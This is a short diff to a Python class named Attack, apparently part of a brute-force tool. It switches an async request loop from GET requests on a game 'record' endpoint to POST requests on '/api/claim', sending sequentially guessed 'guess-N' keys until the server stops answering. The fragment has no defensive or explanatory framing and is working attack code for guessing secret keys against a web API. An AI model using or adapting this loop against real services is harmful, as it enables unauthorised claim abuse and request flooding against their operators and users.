@@ -132,8 +132,8 @@ class Attack:
         async def one() -> None:
             async with self.connection() as (reader, writer):
                 while self.on:
-                    path = f"/api/games/{game}/record?key=guess-{next(number)}"
-                    writer.write(self.head("GET", path))
+                    body = f'{{"game": "{game}", "key": "guess-{next(number)}"}}'.encode()
+                    writer.write(self.head("POST", "/api/claim", len(body)) + body)
                     if not await self._answer(reader):
                         return
 
